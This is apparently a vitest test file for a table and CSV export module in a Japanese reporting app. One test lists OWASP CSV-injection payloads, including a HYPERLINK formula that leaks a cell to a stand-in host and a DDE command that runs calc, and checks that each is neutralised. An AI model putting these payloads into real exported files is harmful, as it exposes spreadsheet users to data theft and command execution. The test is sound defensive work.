import { describe, expect, it } from 'vitest';
import {
  cellText,
  csvRows,
  csvText,
  displayWidth,
  fitColumns,
  neutralize,
  NONE,
  num,
  sectionsAsTable,
  toCsv,
} from './table';

describe('table cells', () => {
  it('show as text on screen and as plain values in CSV', () => {
    expect(cellText(num(1000, '円'))).toBe('1,000円');
    expect(csvText(num(1000, '円'))).toBe('1000');
    expect(cellText({ date: '2026-10-01' })).toBe('2026/10/01');
    expect(csvText({ date: '2026-10-01' })).toBe('2026/10/01');
    expect(cellText(num(87.54, '%'))).toBe('87.5%');
    expect(csvText(num(87.54, '%'))).toBe('87.5');
    expect(cellText(NONE)).toBe('—');
    expect(csvText(NONE)).toBe('');
  });

  // OWASP CSV injection: each payload is shown as text by Excel and LibreOffice.
  it.each([
    '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")',
    '@SUM(1+1)',
    "+cmd|' /C calc'!A0",
    '-1+1',
    '-1+2',
    '@SUM(A1)',
    '-A1',
    '+1 2',
    '-500)',
    '-',
    '\t=1+1',
    '\t500',
    '\r=1+1',
  ])('writes %j with a leading apostrophe', (payload) => {
    expect(neutralize(payload)).toBe(`'${payload}`);
    const csv = toCsv(['氏名'], [[payload]]);
    expect(csv.split('\r\n')[1]?.startsWith(`"'`)).toBe(true);
  });

  // A person's own value that is a plain number reaches the CSV as they wrote it (issue 34 §6).
  it.each(['-500', '+500', '-1,234.5', '-0.25', '+81312345678'])('leaves the plain number %j alone', (value) => {
    expect(neutralize(value)).toBe(value);
    expect(toCsv(['金額'], [[value]])).toBe(`"金額"\r\n"${value}"\r\n`);
  });

  it('leaves ordinary text, numbers and dates alone', () => {
    expect(neutralize('山田 太郎')).toBe('山田 太郎');
    expect(neutralize('2026-0001')).toBe('2026-0001');
    expect(toCsv(['a', 'b'], [[num(-500, '円'), { date: '2026-01-02' }]])).toBe('"a","b"\r\n"-500","2026/01/02"\r\n');
  });

  it('writes a long table in parts exactly as in one piece', () => {
    const rows = [
      ['=1+1', '"引用"'],
      ['山田', 'a,b'],
      ['', '改\n行'],
    ];
    const whole = toCsv(['x', 'y'], rows);
    expect(toCsv(['x', 'y'], []) + csvRows(rows.slice(0, 2)) + csvRows(rows.slice(2))).toBe(whole);
    expect(whole.split('\r\n')).toHaveLength(5);
  });

  it('flattens report sections into one table whose first line is its header', () => {
    const t = sectionsAsTable([
      { title: '主な数値', header: ['項目', '当期', '前期'], rows: [['受付', num(3, '件'), num(1, '件')]] },
      { title: '種類別', header: ['項目', '当期', '前期'], rows: [['開示', num(2, '件'), NONE]] },
    ]);
    expect(t.header).toEqual(['区分', '項目', '単位', '当期', '前期']);
    expect(t.rows).toEqual([
      ['主な数値', '受付', '件', num(3, '件'), num(1, '件')],
      ['種類別', '開示', '件', num(2, '件'), NONE],
    ]);
  });
});

describe('columns fitted to the page', () => {
  it('gives each column its share by what it holds, within bounds, summing to the page', () => {
    expect(displayWidth('ab山田')).toBe(6);
    const header = ['番号', '氏名', '備考'];
    const rows = Array.from({ length: 20 }, (_, i) => [
      String(i),
      '山田 太郎',
      i === 0 ? 'とても長い備考'.repeat(20) : '通常の備考です',
    ]);
    const f = fitColumns(header, rows);
    expect(f.reduce((a, b) => a + b, 0)).toBeCloseTo(1, 9);
    // The number column is narrow, the note the widest, and one long note does not take the page.
    expect(f[0]).toBeLessThan(f[1] ?? 0);
    expect(f[2]).toBeGreaterThan(f[1] ?? 0);
    expect(f[2]).toBeLessThan(0.6);
    expect(fitColumns(['a', 'b'], [])).toEqual([0.5, 0.5]);
  });
});
